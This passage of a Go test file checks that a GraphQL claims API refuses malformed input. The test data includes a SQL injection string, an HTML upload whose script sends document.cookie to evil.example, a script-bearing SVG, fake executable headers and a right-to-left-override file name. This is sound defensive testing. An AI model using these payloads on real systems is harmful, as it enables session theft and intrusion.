package httpapi_test

import (
	"bytes"
	"encoding/json"
	"io"
	"mime/multipart"
	"net/http"
	"net/textproto"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/google/uuid"

	"cpor/demo"
	"cpor/models"
	"cpor/relay"
	"cpor/testkit"
	"cpor/testkit/apitest"
)

// Bad input never stores or changes anything: every case below checks the
// database before and after.

func TestMalformedIdentifiersAreRefused(t *testing.T) {
	eachDialect(t, func(t *testing.T, w *testkit.World, srv *apitest.Server) {
		ada := srv.Client(t, "ada")
		ids := formData(t, ada)
		draft := createDraft(t, ada, claimInput(ids, woodgroveTenant, woodgroveDomain, woodgroveSub))
		before := takeSnapshot(t, w)

		create := func(change map[string]any) []userError {
			t.Helper()
			in := claimInput(ids, woodgroveTenant, woodgroveDomain, woodgroveSub)
			for k, v := range change {
				in[k] = v
			}
			p := mutate(t, ada, createClaimMutation, map[string]any{"input": in}, "createClaim")
			if p.Claim != nil {
				t.Errorf("createClaim with %v saved a claim", change)
			}
			return p.UserErrors
		}

		// Tenant IDs.
		for _, bad := range []string{"not-a-guid", "", "7f3c2a10-5b8e-4d21-9c3a", "7f3c2a105b8e4d219c3a000000000006x", "urn:uuid:" + woodgroveTenant, "' OR 1=1 --"} {
			wantUserError(t, create(map[string]any{"customerTenantId": bad}), "INVALID_INPUT", "input", "customerTenantId")
		}
		wantUserError(t, create(map[string]any{"customerTenantId": "7f3c2a10-5b8e-4d21-9c3a-0000000000ee"}), "TENANT_NOT_FOUND", "input", "customerTenantId")

		// Subscription IDs: not a GUID, or the ID of something else.
		for _, bad := range []string{"123", "not-a-guid", "5a1e0000-0000-4000-8000-00000000004"} {
			wantUserError(t, create(map[string]any{"subscriptionId": bad}), "INVALID_SUBSCRIPTION_ID", "input", "subscriptionId")
		}
		wantUserError(t, create(map[string]any{"subscriptionId": woodgroveTenant}), "INVALID_SUBSCRIPTION_ID", "input", "subscriptionId")
		wantUserError(t, create(map[string]any{"customerTenantId": demo.Northwind.String(), "customerDomain": "northwindtraders.com",
			"subscriptionId": demo.OrderOfSubActive.String()}), "INVALID_SUBSCRIPTION_ID", "input", "subscriptionId")
		wantUserError(t, create(map[string]any{"subscriptionId": demo.SubActive.String()}), "SUBSCRIPTION_NOT_FOUND_ON_TENANT", "input", "subscriptionId")

		// Every malformed field is reported at once.
		errs := create(map[string]any{"customerTenantId": "nope", "subscriptionId": "123",
			"customerContact": map[string]any{"name": "Dana", "title": "CIO", "email": "not-an-email"}})
		wantUserError(t, errs, "INVALID_INPUT", "input", "customerTenantId")
		wantUserError(t, errs, "INVALID_SUBSCRIPTION_ID", "input", "subscriptionId")
		wantUserError(t, errs, "INVALID_INPUT", "input", "customerContact", "email")

		// Global IDs of the wrong shape or type in inputs.
		wantUserError(t, create(map[string]any{"productId": "D365_SALES"}), "INVALID_INPUT", "input", "productId")
		// An MPN field that holds no MPN ID is MPN_NOT_FOUND, whose message
		// points to the MPN list (graph/claim_input.go).
		wantUserError(t, create(map[string]any{"mpnId": "4000001"}), "MPN_NOT_FOUND", "input", "mpnId")
		wantUserError(t, create(map[string]any{"mpnId": ids.salesProduct}), "MPN_NOT_FOUND", "input", "mpnId")

		// Claim IDs that are not claim global IDs.
		badClaimIDs := []string{
			"123", "not-a-global-id", uuid.NewString(), "%%%",
			relay.UUIDGlobalID(relay.TypeClaim, uuid.Nil)[:10],
			relay.GlobalID(relay.TypeClaim, "not-a-uuid"),
			ids.enrolledMpn, // a global ID, of an MPN
			draft.ID + "x",
		}
		for _, bad := range badClaimIDs {
			r := ada.Do(t, claimQuery, map[string]any{"id": bad})
			wantGQLError(t, r, "INVALID_INPUT")
			wantUserError(t, fire(t, ada, submitMutation, "submitClaim", map[string]any{"claimId": bad}).UserErrors, "INVALID_INPUT", "input", "claimId")
			wantUserError(t, mutate(t, ada, updateClaimMutation, map[string]any{"input": map[string]any{"claimId": bad, "notes": "x"}}, "updateClaim").UserErrors,
				"INVALID_INPUT", "input", "claimId")
			wantUserError(t, mutate(t, ada, addCommentMutation, map[string]any{"claimId": bad, "body": "x"}, "addComment").UserErrors, "INVALID_INPUT", "input", "claimId")
			wantUserError(t, fire(t, ada, reclaimMutation, "reclaim", map[string]any{"claimId": bad}).UserErrors, "INVALID_INPUT", "input", "claimId")
			wantUserError(t, attach(t, ada, bad, "p.pdf", testkit.PDF).UserErrors, "INVALID_INPUT", "input", "claimId")
			wantUserError(t, fire(t, srv.Client(t, "rita"), startReviewMutation, "startReview", map[string]any{"claimId": bad}).UserErrors, "INVALID_INPUT", "input", "claimId")
		}
		for _, bad := range []string{"123", "%%%", relay.GlobalID("Nonsense", uuid.NewString())} {
			wantGQLError(t, ada.Do(t, `query($id: ID!) { node(id: $id) { id } }`, map[string]any{"id": bad}), "INVALID_INPUT")
		}
		// A well-formed claim ID of no claim is simply not there.
		missing := relay.UUIDGlobalID(relay.TypeClaim, uuid.New())
		if r := ada.Do(t, claimQuery, map[string]any{"id": missing}); len(r.Errors) > 0 || string(r.Data) != `{"claim":null}` {
			t.Errorf("claim(missing): %s %+v", r.Data, r.Errors)
		}
		wantUserError(t, fire(t, ada, submitMutation, "submitClaim", map[string]any{"claimId": missing}).UserErrors, "NOT_FOUND")
		// Document IDs in the download URL.
		for _, bad := range []string{"123", relay.UUIDGlobalID(relay.TypeClaim, mustParseGlobalUUID(t, draft.ID)), relay.GlobalID(relay.TypeDocument, "x")} {
			resp, body := download(t, ada, "/documents/"+bad)
			if resp.StatusCode < 400 || resp.StatusCode >= 500 {
				t.Errorf("download of %q: HTTP %d %s", bad, resp.StatusCode, body)
			}
		}
		if resp, body := download(t, ada, "/documents/"+relay.UUIDGlobalID(relay.TypeDocument, uuid.New())); resp.StatusCode != http.StatusNotFound {
			t.Errorf("download of a missing document: HTTP %d %s", resp.StatusCode, body)
		}

		unchanged(t, w, before, "malformed identifiers")

		// Partner Center's other spellings of a GUID are accepted, canonically.
		in := claimInput(ids, "{"+strings.ToUpper(woodgroveTenant)+"}", woodgroveDomain, " "+strings.ToUpper(woodgroveSub)+" ")
		in["activity"] = "PRESALES"
		c := createDraft(t, ada, in)
		if c.CustomerTenantID != woodgroveTenant || deref(c.SubscriptionID) != woodgroveSub {
			t.Errorf("GUIDs not stored canonically: %s %v", c.CustomerTenantID, deref(c.SubscriptionID))
		}
	})
}

func TestDomainOfAnotherTenantIsRefused(t *testing.T) {
	eachDialect(t, func(t *testing.T, w *testkit.World, srv *apitest.Server) {
		ada := srv.Client(t, "ada")
		ids := formData(t, ada)
		draft := createDraft(t, ada, claimInput(ids, woodgroveTenant, woodgroveDomain, woodgroveSub))
		before := takeSnapshot(t, w)
		for _, domain := range []string{"northwindtraders.com", "northwind.onmicrosoft.com", "contoso.example"} {
			p := mutate(t, ada, createClaimMutation, map[string]any{"input": claimInput(ids, woodgroveTenant, domain, woodgroveSub)}, "createClaim")
			wantUserError(t, p.UserErrors, "DOMAIN_TENANT_MISMATCH", "input", "customerDomain")
			if p.Claim != nil {
				t.Errorf("createClaim with %s saved a claim", domain)
			}
			p = mutate(t, ada, updateClaimMutation, map[string]any{"input": map[string]any{"claimId": draft.ID, "customerDomain": domain}}, "updateClaim")
			wantUserError(t, p.UserErrors, "DOMAIN_TENANT_MISMATCH", "input", "customerDomain")
		}
		for _, domain := range []string{"not a domain", "", "http://woodgrovebank.com/"} {
			p := mutate(t, ada, createClaimMutation, map[string]any{"input": claimInput(ids, woodgroveTenant, domain, woodgroveSub)}, "createClaim")
			wantUserError(t, p.UserErrors, "INVALID_INPUT", "input", "customerDomain")
		}
		unchanged(t, w, before, "domains of another tenant")
		if got := readClaim(t, ada, draft.ID); got.CustomerDomain != woodgroveDomain || got.Version != draft.Version {
			t.Errorf("the draft changed: %s v%d", got.CustomerDomain, got.Version)
		}
		// The tenant's initial domain, in capitals, is its own.
		p := mutate(t, ada, updateClaimMutation, map[string]any{"input": map[string]any{"claimId": draft.ID, "customerDomain": "WoodGrove.onmicrosoft.com"}}, "updateClaim")
		if len(p.UserErrors) > 0 || p.Claim == nil || p.Claim.CustomerDomain != "woodgrove.onmicrosoft.com" {
			t.Errorf("update to the initial domain: %+v", p)
		}
	})
}

func TestTransportLevelBadInput(t *testing.T) {
	eachDialect(t, func(t *testing.T, w *testkit.World, srv *apitest.Server) {
		ada := srv.Client(t, "ada")
		ids := formData(t, ada)
		before := takeSnapshot(t, w)

		// Unknown enum values, in variables and inline: 400 before anything runs.
		in := claimInput(ids, woodgroveTenant, woodgroveDomain, woodgroveSub)
		in["activity"] = "CONSULTING"
		r := ada.Do(t, createClaimMutation, map[string]any{"input": in})
		if r.Status != http.StatusBadRequest {
			t.Errorf("unknown activity in variables: HTTP %d", r.Status)
		}
		wantGQLError(t, r, "GRAPHQL_VALIDATION_FAILED")
		in = claimInput(ids, woodgroveTenant, woodgroveDomain, woodgroveSub)
		in["solutionArea"] = "business_applications"
		r = ada.Do(t, createClaimMutation, map[string]any{"input": in})
		if r.Status != http.StatusBadRequest {
			t.Errorf("lower-case solution area: HTTP %d", r.Status)
		}
		wantGQLError(t, r, "GRAPHQL_VALIDATION_FAILED")
		for _, q := range []string{
			`{ claims(filter: {status: [PENDING]}) { totalCount } }`,
			`{ products(solutionArea: DYNAMICS) { id } }`,
			`mutation { createClaim(input: {solutionArea: BUSINESS_APPLICATIONS, activity: CONSULTING, customerTenantId: "` + woodgroveTenant + `", customerDomain: "` + woodgroveDomain + `"}) { claim { id } } }`,
			`{ claims(filter: {status: "SUBMITTED"}) { totalCount } }`,
			`{ claims { nodes { noSuchField } } }`,
		} {
			r := ada.Do(t, q, nil)
			if r.Status != http.StatusBadRequest {
				t.Errorf("%s: HTTP %d", q, r.Status)
			}
			wantGQLError(t, r, "GRAPHQL_VALIDATION_FAILED")
		}
		// Enum values in variables are case-sensitive, as in the query text:
		// "usage" is not USAGE (gqlparser alone lets it through, to filter
		// on nothing or to fail a database constraint).
		for _, tc := range []struct {
			c     *apitest.Client
			query string
			vars  map[string]any
		}{
			{ada, `query($a: [Activity!]) { claims(filter: {activity: $a}) { totalCount } }`, map[string]any{"a": []string{"usage"}}},
			{ada, `query($s: [ClaimStatus!]) { claims(filter: {status: $s}) { totalCount } }`, map[string]any{"s": "Submitted"}},
			{ada, `query($a: SolutionArea) { products(solutionArea: $a) { code } }`, map[string]any{"a": "microsoft_365"}},
			{ada, `query($o: ClaimOrder) { claims(orderBy: $o) { totalCount } }`, map[string]any{"o": map[string]any{"field": "CREATED_AT", "direction": "asc"}}},
			{srv.Client(t, "oscar"), `mutation($c: PurchaseChannel!, $p: ID!) { upsertSubscription(input: {subscriptionId: "5a1e0000-0000-4000-8000-0000000000ff",
			  tenantId: "` + woodgroveTenant + `", productId: $p, channel: $c, provisioningState: PROVISIONED, status: ACTIVE, startsAt: "2026-01-01T00:00:00Z"}) {
			  subscription { id } userErrors { code } } }`, map[string]any{"c": "csp", "p": ids.salesProduct}},
		} {
			r := tc.c.Do(t, tc.query, tc.vars)
			if r.Status != http.StatusBadRequest {
				t.Errorf("%v: HTTP %d %s %+v", tc.vars, r.Status, r.Data, r.Errors)
			}
			wantGQLError(t, r, "GRAPHQL_VALIDATION_FAILED")
		}
		// The exact spelling works.
		if p := run[struct{ TotalCount int }](t, ada, `query($a: [Activity!]) { claims(filter: {activity: $a}) { totalCount } }`,
			map[string]any{"a": []string{"USAGE"}}, "claims"); p.TotalCount == 0 {
			t.Error("claims(activity: USAGE) found nothing")
		}

		// Variables of the wrong type.
		r = ada.Do(t, claimsPageQuery, map[string]any{"first": "ten"})
		if r.Status != http.StatusBadRequest {
			t.Errorf("first: \"ten\": HTTP %d", r.Status)
		}
		wantGQLError(t, r, "GRAPHQL_VALIDATION_FAILED")
		// A query that does not parse.
		r = ada.Do(t, `{ claims { `, nil)
		if r.Status != http.StatusBadRequest {
			t.Errorf("unparsable query: HTTP %d", r.Status)
		}
		wantGQLError(t, r, "GRAPHQL_PARSE_FAILED")

		// Malformed JSON bodies.
		for _, body := range []string{`{"query": "{ viewer { userId } }"`, `not json`, `{"query": 42}`, `[`, `{"query":"{ viewer { userId } }","variables":"x"}`} {
			r := ada.Post(t, "application/json", strings.NewReader(body))
			if r.Status != http.StatusBadRequest {
				t.Errorf("body %q: HTTP %d", body, r.Status)
			}
			if len(r.Errors) == 0 || r.Errors[0].Code() == "" {
				t.Errorf("body %q: errors without extensions.code: %+v", body, r.Errors)
			}
		}

		// A body over 1 MiB, with a length and chunked.
		big := claimInput(ids, woodgroveTenant, woodgroveDomain, woodgroveSub)
		big["notes"] = strings.Repeat("n", 1<<20+10)
		raw, _ := json.Marshal(map[string]any{"query": createClaimMutation, "variables": map[string]any{"input": big}})
		for name, body := range map[string]io.Reader{"with length": bytes.NewReader(raw), "chunked": onlyReader{bytes.NewReader(raw)}} {
			r := ada.Post(t, "application/json", body)
			if r.Status != http.StatusRequestEntityTooLarge && r.Status != http.StatusBadRequest {
				t.Errorf("body over 1 MiB (%s): HTTP %d %+v", name, r.Status, r.Errors)
			}
			if len(r.Errors) == 0 || r.Errors[0].Code() == "" {
				t.Errorf("body over 1 MiB (%s): errors without extensions.code: %+v", name, r.Errors)
			}
		}

		// An overly complex query.
		r = ada.Do(t, `{ claims(first: 100) { nodes { comments(first: 100) { nodes { id } } history(first: 100) { nodes { id } } } } }`, nil)
		if r.Status < 400 || r.Status >= 500 {
			t.Errorf("complex query: HTTP %d", r.Status)
		}
		wantGQLError(t, r, "COMPLEXITY_LIMIT_EXCEEDED")
		if len(r.Data) > 0 && string(r.Data) != "null" {
			t.Errorf("complex query answered data %s", r.Data)
		}
		// A reasonable page of the same shape runs.
		r = ada.Do(t, `{ claims(first: 10) { nodes { comments(first: 10) { nodes { id } } history(first: 10) { nodes { id } } } } }`, nil)
		if r.Status != http.StatusOK || len(r.Errors) > 0 {
			t.Errorf("modest nested query: HTTP %d %+v", r.Status, r.Errors)
		}

		unchanged(t, w, before, "transport-level bad input")
	})
}

func strconvQuote(s string) string {
	b, _ := json.Marshal(s)
	return string(b)
}

// onlyReader hides everything but Read, so the request is sent chunked,
// without a Content-Length.
type onlyReader struct{ r io.Reader }

func (o onlyReader) Read(p []byte) (int, error) { return o.r.Read(p) }

func TestBadUploadsAreRefused(t *testing.T) {
	eachDialect(t, func(t *testing.T, w *testkit.World, srv *apitest.Server) {
		ada := srv.Client(t, "ada")
		ids := formData(t, ada)
		draft := createDraft(t, ada, claimInput(ids, woodgroveTenant, woodgroveDomain, woodgroveSub))
		before := takeSnapshot(t, w)

		elf := append([]byte("\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00\x3e\x00"), make([]byte, 200)...)
		exe := append([]byte("MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"), make([]byte, 200)...)
		copy(exe[0x3c:], []byte{0x80, 0, 0, 0})
		copy(exe[0x80:], []byte("PE\x00\x00\x4c\x01"))
		oversized := append(append([]byte{}, testkit.PDF...), bytes.Repeat([]byte{' '}, 10<<20-len(testkit.PDF)+1)...)
		for _, tc := range []struct {
			name, fileName string
			content        []byte
		}{
			{"ELF executable", "proof.pdf", elf},
			{"Windows executable", "setup.exe", exe},
			{"Windows executable named .pdf", "proof.pdf", exe},
			{"HTML named .pdf", "proof.pdf", []byte("<!DOCTYPE html><html><head><title>Proof</title></head><body><script>document.location='https://evil.example/?c='+document.cookie</script></body></html>")},
			{"SVG with a script", "proof.png", []byte(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`)},
			{"empty file", "proof.pdf", nil},
			{"over 10 MiB", "big.pdf", oversized},
		} {
			p := attach(t, ada, draft.ID, tc.fileName, tc.content)
			wantUserError(t, p.UserErrors, "INVALID_INPUT", "input", "file")
			if p.ProofOfExecution != nil {
				t.Errorf("%s was stored: %+v", tc.name, p.ProofOfExecution)
			}
		}
		unchanged(t, w, before, "bad uploads")

		// A request far over the upload limit is refused by the transport,
		// still as a GraphQL error with a code.
		huge := append(append([]byte{}, testkit.PDF...), bytes.Repeat([]byte{' '}, 12<<20)...)
		r := ada.Upload(t, attachMutation, map[string]any{"claimId": draft.ID}, "file", "huge.pdf", huge)
		if r.Status != http.StatusRequestEntityTooLarge && r.Status != http.StatusBadRequest {
			t.Errorf("upload of 12 MiB: HTTP %d %+v", r.Status, r.Errors)
		}
		if len(r.Errors) == 0 || r.Errors[0].Code() == "" {
			t.Errorf("upload of 12 MiB: errors without extensions.code: %+v", r.Errors)
		}
		// The same, chunked: the size is only known while it is read.
		var body bytes.Buffer
		mw := multipart.NewWriter(&body)
		_ = mw.WriteField("operations", `{"query":`+strconvQuote(attachMutation)+`,"variables":{"claimId":"`+draft.ID+`","file":null}}`)
		_ = mw.WriteField("map", `{"0":["variables.file"]}`)
		fw, _ := mw.CreateFormFile("0", "huge.pdf")
		_, _ = fw.Write(huge)
		_ = mw.Close()
		r = ada.Post(t, mw.FormDataContentType(), onlyReader{&body})
		if r.Status != http.StatusRequestEntityTooLarge {
			t.Errorf("chunked upload of 12 MiB: HTTP %d %+v", r.Status, r.Errors)
		}
		if len(r.Errors) == 0 || r.Errors[0].Code() == "" {
			t.Errorf("chunked upload of 12 MiB: errors without extensions.code: %+v", r.Errors)
		}

		// Multipart requests that do not follow the specification.
		for name, body := range map[string]string{
			"no operations": "--B\r\nContent-Disposition: form-data; name=\"map\"\r\n\r\n{}\r\n--B--\r\n",
			"bad map": "--B\r\nContent-Disposition: form-data; name=\"operations\"\r\n\r\n{\"query\":\"{ viewer { userId } }\"}\r\n" +
				"--B\r\nContent-Disposition: form-data; name=\"map\"\r\n\r\nnot json\r\n--B--\r\n",
		} {
			r := ada.Post(t, "multipart/form-data; boundary=B", strings.NewReader(body))
			if r.Status < 400 || r.Status >= 500 {
				t.Errorf("multipart %s: HTTP %d", name, r.Status)
			}
			if len(r.Errors) == 0 || r.Errors[0].Code() == "" {
				t.Errorf("multipart %s: errors without extensions.code: %+v", name, r.Errors)
			}
		}
		unchanged(t, w, before, "oversized and malformed uploads")

		// The allowed kinds go in (the refusals above are not blanket ones).
		png := []byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N\x00\x00\x00\x00IEND\xaeB`\x82")
		for _, tc := range []struct {
			fileName, contentType string
			content               []byte
		}{
			{"proof.pdf", "application/pdf", testkit.PDF},
			{"screenshot.png", "image/png", png},
			{"notes.txt", "text/plain", []byte("Workshop notes: 14 attendees.\n")},
			{"exactly10mib.pdf", "application/pdf", oversized[:10<<20]},
		} {
			p := attach(t, ada, draft.ID, tc.fileName, tc.content)
			if len(p.UserErrors) > 0 || p.ProofOfExecution == nil || p.ProofOfExecution.ContentType != tc.contentType || p.ProofOfExecution.SizeBytes != len(tc.content) {
				t.Errorf("attach %s: %+v", tc.fileName, p)
			}
		}
	})
}

// gqlErrorAt finds the error whose path is path, failing the test when
// there is none.
func gqlErrorAt(t testing.TB, r *apitest.Response, path ...any) apitest.GQLError {
	t.Helper()
	want, _ := json.Marshal(path)
	for _, e := range r.Errors {
		if got, _ := json.Marshal(e.Path); string(got) == string(want) {
			return e
		}
	}
	t.Fatalf("no error at %s: %+v", want, r.Errors)
	return apitest.GQLError{}
}

// firstID runs a query and returns the first node's id of the named
// connection (or list) in its data.
func firstID(t testing.TB, c *apitest.Client, query, name string) string {
	t.Helper()
	conn := run[struct{ Nodes []struct{ ID string } }](t, c, query, nil, name)
	if len(conn.Nodes) == 0 {
		t.Fatalf("%s: no nodes", query)
	}
	return conn.Nodes[0].ID
}

// Free text with a NUL (sent as \u0000 in the JSON variables) or over its
// limit is INVALID_INPUT on the input's path in every mutation, on both
// databases; PostgreSQL used to refuse it (INTERNAL).
func TestBadFreeTextIsRefused(t *testing.T) {
	eachDialect(t, func(t *testing.T, w *testkit.World, srv *apitest.Server) {
		ada, rita, chloe, oscar := srv.Client(t, "ada"), srv.Client(t, "rita"), srv.Client(t, "chloe"), srv.Client(t, "oscar")
		ids := formData(t, ada)
		draft := createDraft(t, ada, claimInput(ids, woodgroveTenant, woodgroveDomain, woodgroveSub))
		underReview := firstID(t, rita, `{ claims(filter: {status: [UNDER_REVIEW]}) { nodes { id } } }`, "claims")
		caseID := firstID(t, rita, `{ arbitrationCases(status: OPEN) { nodes { id } } }`, "arbitrationCases")
		caseClaim := firstID(t, rita, `{ claims(filter: {status: [ARBITRATION]}) { nodes { id } } }`, "claims")
		assoc := firstID(t, chloe, `{ associations(activeOnly: true) { nodes { id } } }`, "associations")
		before := w.Snapshot(t)

		const nul = "Dana\x00Diaz" // json.Marshal sends it as \u0000
		withContact := func(role, name string) map[string]any {
			in := claimInput(ids, woodgroveTenant, woodgroveDomain, woodgroveSub)
			in[role] = map[string]any{"name": name, "title": "CIO", "email": "dana@" + woodgroveDomain}
			return in
		}
		payloadErrors := `userErrors { code field message }`
		cases := []struct {
			name    string
			c       *apitest.Client
			query   string
			payload string
			input   map[string]any
			field   []string
		}{
			{"customer contact's name", ada, createClaimMutation, "createClaim", withContact("customerContact", nul), []string{"customerContact", "name"}},
			{"partner contact's name", ada, createClaimMutation, "createClaim", withContact("partnerContact", nul), []string{"partnerContact", "name"}},
			{"notes", ada, updateClaimMutation, "updateClaim", map[string]any{"claimId": draft.ID, "notes": "a\x00"}, []string{"notes"}},
			{"comment body", ada, `mutation($input: AddCommentInput!) { addComment(input: $input) { ` + payloadErrors + ` } }`, "addComment",
				map[string]any{"claimId": draft.ID, "body": nul}, []string{"body"}},
			{"information request", rita, requestInfoMutation, "requestInformation", map[string]any{"claimId": underReview, "message": nul}, []string{"message"}},
			{"escalation reason", rita, escalateMutation, "escalateClaim", map[string]any{"claimId": underReview, "reason": nul}, []string{"reason"}},
			{"approval note", rita, approveMutation, "approveClaim", map[string]any{"claimId": underReview, "note": nul}, []string{"note"}},
			{"rejection reason", rita, rejectMutation, "rejectClaim", map[string]any{"claimId": underReview, "reason": nul}, []string{"reason"}},
			{"rejection reason of 200 KiB", rita, rejectMutation, "rejectClaim", map[string]any{"claimId": underReview, "reason": strings.Repeat("x", 200<<10)}, []string{"reason"}},
			{"arbitration reason", rita, `mutation($input: ResolveArbitrationInput!) { resolveArbitration(input: $input) { ` + payloadErrors + ` } }`, "resolveArbitration",
				map[string]any{"caseId": caseID, "winningClaimId": caseClaim, "reason": nul}, []string{"reason"}},
			{"decline reason", chloe, `mutation($input: DeclineAssociationInput!) { declineAssociation(input: $input) { ` + payloadErrors + ` } }`, "declineAssociation",
				map[string]any{"associationId": assoc, "reason": nul}, []string{"reason"}},
			{"tenant name", oscar, `mutation($input: UpsertCustomerTenantInput!) { upsertCustomerTenant(input: $input) { ` + payloadErrors + ` } }`, "upsertCustomerTenant",
				map[string]any{"tenantId": uuid.NewString(), "displayName": nul, "domains": []string{"nul.onmicrosoft.com"}}, []string{"displayName"}},
			{"product name", oscar, `mutation($input: UpsertProductInput!) { upsertProduct(input: $input) { ` + payloadErrors + ` } }`, "upsertProduct",
				map[string]any{"code": "NUL_TEST", "name": nul, "solutionArea": "MICROSOFT_365", "kind": "WORKLOAD", "dynamics": false}, []string{"name"}},
		}
		for _, c := range cases {
			t.Run(c.name, func(t *testing.T) {
				p := mutate(t, c.c, c.query, map[string]any{"input": c.input}, c.payload)
				wantUserError(t, p.UserErrors, "INVALID_INPUT", append([]string{"input"}, c.field...)...)
			})
		}
		// The same as a raw body, with the escape as a client writes it, in
		// a variable and in the query's own text.
		for _, body := range []string{
			`{"query": ` + strconvQuote(addCommentMutation) + `, "variables": {"claimId": "` + draft.ID + `", "body": "Agenda\u0000attached"}}`,
			`{"query": "mutation($c: ID!) { addComment(input: {claimId: $c, body: \"Agenda\\u0000attached\"}) { userErrors { code field message } } }",
			  "variables": {"c": "` + draft.ID + `"}}`,
		} {
			p := field[payload](t, ada.Post(t, "application/json", strings.NewReader(body)), "addComment")
			wantUserError(t, p.UserErrors, "INVALID_INPUT", "input", "body")
		}
		w.Unchanged(t, before, "mutations with bad free text")
	})
}

// An upload's file name in invalid UTF-8, or cut at 255 bytes inside a
// character, is stored cleaned on both databases (PostgreSQL used to
// refuse it, SQLite to store it as it came). Raw bytes in a quoted name
// arrive as U+FFFD already; RFC 2231's percent-encoded filename* brings
// them through as bytes.
func TestUploadFileNamesAreStoredAsValidUTF8(t *testing.T) {
	eachDialect(t, func(t *testing.T, w *testkit.World, srv *apitest.Server) {
		ada := srv.Client(t, "ada")
		draft := createDraft(t, ada, claimInput(formData(t, ada), woodgroveTenant, woodgroveDomain, woodgroveSub))
		quoted := func(name string) string { return `filename="` + name + `"` }
		for _, c := range []struct{ fileName, want string }{
			{`filename*=UTF-8''Pr%E4sentation%20M%E4rz.pdf`, "Pr\uFFFDsentation M\uFFFDrz.pdf"},
			{`filename*=UTF-8''` + strings.Repeat("%C3%BC", 127) + `%C3.pdf`, strings.Repeat("ü", 125) + ".pdf"},
			{`filename*=UTF-8''proof%00%1B.pdf`, "proof.pdf"},
			{quoted("Pr\xe4sentation.pdf"), "Pr\uFFFDsentation.pdf"},
			{quoted(strings.Repeat("ü", 130) + ".pdf"), strings.Repeat("ü", 125) + ".pdf"},
			{quoted("invoice\u202efdp.exe"), "invoicefdp.exe"},
		} {
			p := field[payload](t, uploadNamed(t, ada, draft.ID, c.fileName), "attachProofOfExecution")
			if len(p.UserErrors) > 0 || p.ProofOfExecution == nil {
				t.Fatalf("attach %q: %+v", c.fileName, p)
			}
			var stored models.Document
			if err := w.DB.Where("id = ?", mustParseGlobalUUID(t, p.ProofOfExecution.ID)).Take(&stored).Error; err != nil {
				t.Fatal(err)
			}
			if stored.FileName != c.want || p.ProofOfExecution.FileName != c.want || !utf8.ValidString(stored.FileName) || len(stored.FileName) > 255 {
				t.Errorf("attach %q: stored %q, answered %q; want %q", c.fileName, stored.FileName, p.ProofOfExecution.FileName, c.want)
			}
		}
	})
}

// uploadNamed attaches a PDF to the claim with a multipart request whose
// file part names the file with the Content-Disposition parameter given.
func uploadNamed(t testing.TB, c *apitest.Client, claimID, fileNameParam string) *apitest.Response {
	t.Helper()
	var body bytes.Buffer
	mw := multipart.NewWriter(&body)
	_ = mw.WriteField("operations", `{"query":`+strconvQuote(attachMutation)+`,"variables":{"claimId":"`+claimID+`","file":null}}`)
	_ = mw.WriteField("map", `{"0":["variables.file"]}`)
	part, err := mw.CreatePart(textproto.MIMEHeader{
		"Content-Disposition": {`form-data; name="0"; ` + fileNameParam},
		"Content-Type":        {"application/octet-stream"},
	})
	if err != nil {
		t.Fatal(err)
	}
	_, _ = part.Write(testkit.PDF)
	_ = mw.Close()
	return c.Post(t, mw.FormDataContentType(), &body)
}

// List arguments and cursors are checked before any SQL runs: 50,001
// statuses used to exceed what either database takes, and a cursor key
// that is not a UUID failed in PostgreSQL (both INTERNAL).
func TestListArgumentsAndCursorsAreChecked(t *testing.T) {
	eachDialect(t, func(t *testing.T, w *testkit.World, srv *apitest.Server) {
		rita := srv.Client(t, "rita")
		statuses := make([]string, 50001)
		for i := range statuses {
			statuses[i] = "SUBMITTED"
		}
		r := rita.Do(t, claimsPageQuery, map[string]any{"filter": map[string]any{"status": statuses}})
		wantGQLError(t, r, "INVALID_INPUT")
		if f := r.Errors[0].Extensions["field"]; f != "filter.status" {
			t.Errorf("error names %v; want filter.status", f)
		}
		r = rita.Do(t, claimsPageQuery, map[string]any{"filter": map[string]any{"status": statuses[:relay.MaxListValues]}, "first": 1})
		if len(r.Errors) > 0 {
			t.Errorf("%d statuses: %+v", relay.MaxListValues, r.Errors)
		}

		forged := relay.Cursor{Time: time.Now(), Key: "not-a-uuid"}.Encode()
		for _, vars := range []map[string]any{{"first": 2, "after": forged}, {"last": 2, "before": forged}} {
			r := rita.Do(t, claimsPageQuery, vars)
			wantGQLError(t, r, "INVALID_INPUT")
		}
		claim := firstID(t, rita, `{ claims { nodes { id } } }`, "claims")
		for _, q := range []string{
			`query($id: ID!, $c: String) { claim(id: $id) { comments(after: $c) { totalCount } } }`,
			`query($id: ID!, $c: String) { claim(id: $id) { proofOfExecution(before: $c) { totalCount } } }`,
			`query($id: ID!, $c: String) { claim(id: $id) { history(after: $c) { totalCount } } }`,
		} {
			wantGQLError(t, rita.Do(t, q, map[string]any{"id": claim, "c": forged}), "INVALID_INPUT")
		}
		wantGQLError(t, rita.Do(t, `query($c: String) { associations(after: $c) { totalCount } }`, map[string]any{"c": forged}), "INVALID_INPUT")
		wantGQLError(t, rita.Do(t, `query($c: String) { arbitrationCases(after: $c) { totalCount } }`, map[string]any{"c": forged}), "INVALID_INPUT")
	})
}

// nodes(ids:) resolves every well-formed ID; a malformed one, or one of no
// known type, is a null entry with an error at ["nodes", i]. The whole
// answer used to be null.
func TestNodesAnswersEachID(t *testing.T) {
	eachDialect(t, func(t *testing.T, w *testkit.World, srv *apitest.Server) {
		ada := srv.Client(t, "ada")
		ids := formData(t, ada)
		draft := createDraft(t, ada, claimInput(ids, woodgroveTenant, woodgroveDomain, woodgroveSub))
		missing := relay.UUIDGlobalID(relay.TypeClaim, uuid.New())
		query := `query($ids: [ID!]!) { nodes(ids: $ids) { id } }`
		r := ada.Do(t, query, map[string]any{"ids": []string{draft.ID, "not-an-id", ids.enrolledMpn, relay.GlobalID("Nonsense", uuid.NewString()), missing}})
		var data struct{ Nodes []*struct{ ID string } }
		if err := json.Unmarshal(r.Data, &data); err != nil {
			t.Fatalf("data %s: %v", r.Data, err)
		}
